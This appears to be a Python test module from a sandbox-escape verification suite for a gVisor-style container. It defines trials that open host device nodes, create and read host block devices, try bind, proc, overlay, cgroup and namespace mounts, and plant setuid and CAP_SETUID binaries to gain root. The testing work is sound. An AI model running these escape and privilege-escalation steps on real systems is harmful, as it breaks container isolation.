"""Ways through what is no plain file: device nodes, disks, mounts, set-id programs."""

import contextlib
from collections.abc import AsyncIterator
from typing import Final

import msgspec

from opensafe.proof.escape import guest, ways
from opensafe.proof.escape.ground import Ground, Row, attempts, bare, in_cell, weakened
from opensafe.proof.escape.host import BELOW
from opensafe.proof.escape.probe import Boundary, Run, Severity
from opensafe.proof.escape.trial import Attempt, Trial
from opensafe.proof.escape.ways import FILTER, MOUNTED, POLICY, USER
from opensafe.proof.escape.weakening import IN_SIGHT, Bind, Weakening

from . import scenes

_NODES = Row(
    scene=scenes.device,
    command="find / -xdev -type c -not -path '/dev/*' -exec head -c1 {{}} ';'; head -c1 {node}",
    program="""
def opened(path, flags=os.O_RDONLY):
    return os.read(os.open(path, flags | os.O_NONBLOCK), 1)
nodes = [path for path in walk("/") if not path.startswith("/dev/") and os.path.lexists(path)]
nodes = [path for path in nodes if stat.S_ISCHR(os.lstat(path).st_mode)]
for path in nodes + [NODE]:
    attempt("read " + path, opened, path)
    attempt("write " + path, opened, path, os.O_RDWR)
""",
)
_DISK = Row(
    scene=scenes.disk,
    command="mknod /tmp/{name} b {major} {minor}; head -c64 /tmp/{name}; head -c64 /dev/loop{minor} /dev/vda",
    program="""
def made(directory):
    path = directory + "/" + NAME
    os.mknod(path, stat.S_IFBLK | 0o666, os.makedev(MAJOR, MINOR))
    try:
        return read(path, 64)
    finally:
        os.unlink(path)
for directory in ("/tmp", "/workspace", "/dev/shm", "/var/tmp", "/dev"):
    if os.path.isdir(directory):
        attempt("in " + directory, made, directory)
for name in names("/dev") + names("/dev/char") + names("/sys/block"):
    if os.path.exists("/dev/" + name) and stat.S_ISBLK(os.stat("/dev/" + name).st_mode):
        attempt("/dev/" + name, read, "/dev/" + name, 64)
""",
)
_MOUNT = Row(
    scene=scenes.mounts,
    command="mount --bind / /mnt && cat /mnt{canary}; mount -t proc {name} /mnt && cat /mnt/1/root{canary}",
    program="""
BIND, REC, DETACH = 4096, 16384, 2
OPEN_TREE, MOVE_MOUNT, FSOPEN = 428, 429, 430
def mounted(source, kind, flags, data, *looks):
    call("mount", source, "/mnt", kind, flags, data)
    try:
        for look in looks:
            try:
                show(read("/mnt" + look))
            except OSError:
                pass
        return names("/mnt")
    finally:
        call("umount2", "/mnt", DETACH)
def moved():
    tree = call("syscall", OPEN_TREE, -100, b"/", 1)
    call("syscall", MOVE_MOUNT, tree, b"", -100, b"/mnt", 4)
    return read("/mnt" + CANARY)
def uncovered():
    call("umount2", BELOW, DETACH)
    return read(CANARY)
def tries():
    attempt("bind", mounted, "/", None, BIND, None, CANARY)
    attempt("bind proc's root", mounted, "/proc/1/root", None, BIND | REC, None, CANARY)
    attempt("proc", mounted, NAME, "proc", 0, None, "/1/root" + CANARY, "/2/root" + CANARY)
    attempt("overlay", mounted, NAME, "overlay", 0, "lowerdir=/:/etc", CANARY)
    attempt("cgroup", mounted, NAME, "cgroup", 0, "none,name=" + NAME, "/release_agent")
    attempt("cgroup2", mounted, NAME, "cgroup2", 0, None)
    attempt("tmpfs", mounted, NAME, "tmpfs", 0, None)
    attempt("devtmpfs", mounted, NAME, "devtmpfs", 0, None)
    attempt("sysfs", mounted, NAME, "sysfs", 0, None)
    attempt("disk", mounted, "/dev/vda", "ext4", 1, None, CANARY)
    attempt("9p", mounted, NAME, "9p", 0, "trans=fd,rfdno=3,wfdno=3", CANARY)
    attempt("open_tree", moved)
    attempt("fsopen", call, "syscall", FSOPEN, b"ext4", 0)
    attempt("umount", uncovered)
tries()
def again():
    call("unshare", 0x10000000 | 0x20000)
    tries()
attempt("in a user namespace", again, wait=60)
""",
)
#: By the guest's root: a set-id copy of id(1), and a Python whose file gives CAP_SETUID (capabilities(7)).
_PLANT: Final = """
import os, shutil, struct
for place in ("/workspace", "/tmp", "/dev/shm"):
    shutil.copy("/usr/bin/id", place + "/suid")
    os.chown(place + "/suid", 0, 0)
    os.chmod(place + "/suid", 0o6755)
    shutil.copy("/usr/bin/python3", place + "/capable")
    try:
        os.setxattr(place + "/capable", "security.capability", struct.pack("<5I", 0x2000001, 1 << 7, 0, 0, 0))
    except OSError:
        pass
print("ready")
"""
_SET_ID = Row(
    scene=scenes.silent,
    before=("/usr/bin/python3", "-I", "-c", _PLANT),
    command="cp /usr/bin/id /workspace/suid; chmod 6755 /workspace/suid; /workspace/suid",
    program="""
if os.getuid() == 0:
    os.setgroups([])
    os.setresgid(1000, 1000, 1000)
    os.setresuid(1000, 1000, 1000)
BECOME = "import os; os.setresuid(-1, 0, 0); os.execv('/usr/bin/id', ['id'])"
class Kept(Exception):
    pass
def run(*words):
    done = subprocess.run(words, capture_output=True)
    if b"euid=0" not in done.stdout:
        raise Kept("its user")
    return done.stdout + done.stderr
def own(path):
    write(path, read("/usr/bin/id", 1 << 20))
    os.chmod(path, 0o6755)
    return run(path)
for place in ("/workspace", "/tmp", "/dev/shm"):
    attempt("its own in " + place, own, place + "/own")
    attempt("set-id in " + place, run, place + "/suid")
    attempt("capability in " + place, run, place + "/capable", "-c", BECOME)
for path in walk("/bin", "/sbin", "/usr"):
    if not os.path.islink(path) and os.path.isfile(path) and os.stat(path).st_mode & 0o6000:
        attempt(path, run, path)
""",
)


@contextlib.asynccontextmanager
async def _hidden() -> AsyncIterator[scenes.Mounts]:
    """With what it is hidden by, in the control."""
    async with scenes.mounts() as scene:
        scene.facts = {**scene.facts, "BELOW": str(BELOW)}
        yield scene


_MOUNT_HIDDEN = msgspec.structs.replace(_MOUNT, scene=_hidden)
#: What the control begins with: a mount of its own over the canary, which the privilege in question takes away.
_COVER: Final = ("unshare", "--mount", "sh", "-c", f'mount -t tmpfs none {BELOW} && exec "$@"', "sh")


def _passed_through(_: object) -> Weakening:
    bind = Bind(source=BELOW, destination=str(BELOW), writable=True, devices=True)
    return Weakening(binds=(bind,), runsc=("--character-device-policy=passthrough",))


def _in_sight(*, root: bool) -> Attempt:
    """With the node where the guest sees it. runsc opens any on the host as soon as it is looked at; that its own
    mounts have nodev is what keeps it from doing so.
    """

    async def attempt(on: Ground) -> Run:
        way, opened = (ways.as_root, (POLICY, FILTER, USER)) if root else (ways.unfiltered, (POLICY, FILTER))
        run = await in_cell(on, _NODES, way, lambda _: IN_SIGHT, opened=(*opened, MOUNTED))
        if run.layer != guest.HARMLESS:  # it was not there to be opened, or was not let be
            return run
        return msgspec.structs.replace(run, layer="the gofer's mounts: nodev; the sentry's own device instead")

    return attempt


DEVICES = (
    Trial(
        id="FS-14", boundary=Boundary.FILESYSTEM, severity=Severity.ESCAPE,
        title="open a character device's node that lies in the root or in a mounted directory (CVE-2026-96812)",
        attacks=("T1611", "T1006"),
        breach="the host sees the node opened (inotify)",
        control="flag: --character-device-policy=passthrough, and the directory mounted with its devices",
        attempts=(*attempts(_NODES), _in_sight(root=False), _in_sight(root=True)),
        weak=weakened(_NODES, _passed_through, root=True),
    ),
    Trial(
        id="FS-15", boundary=Boundary.FILESYSTEM, severity=Severity.ESCAPE,
        title="make a node of a disk of the host's and read the disk",
        attacks=("T1006", "T1611"), benchmark=("privileged",),
        breach="the nonce on a loop device of the host's in the output",
        control="bare, configuration form: the same program on the host, with CAP_MKNOD",
        attempts=attempts(_DISK), weak=bare(_DISK),
    ),
    Trial(
        id="FS-16", boundary=Boundary.FILESYSTEM, severity=Severity.ESCAPE,
        title="mount the host's files: bind, proc, overlay, cgroup, disk, and with a user namespace of its own",
        attacks=("T1611",), benchmark=("sys_admin", "privileged"),
        breach="the canary's nonce in the output, or the guest's mount in the host's table",
        control="bare: the same with CAP_SYS_ADMIN, in a mount namespace that hides the canary",
        attempts=attempts(_MOUNT_HIDDEN), weak=bare(_MOUNT_HIDDEN, *_COVER),
    ),
    Trial(
        id="FS-24", boundary=Boundary.FILESYSTEM, severity=Severity.INTERNAL_ESC,
        title="become root of the guest by a set-id program or a file's capabilities",
        attacks=("T1548.001",),
        breach="a program of uid 1000 has euid 0 (only the guest can see it)",
        control="flag: noNewPrivileges=false, mounts without nosuid, and --allow-suid",
        attempts=attempts(_SET_ID),
        weak=weakened(_SET_ID, lambda _: Weakening(new_privileges=True, runsc=("--allow-suid",)), root=True),
    ),
)  # fmt: skip
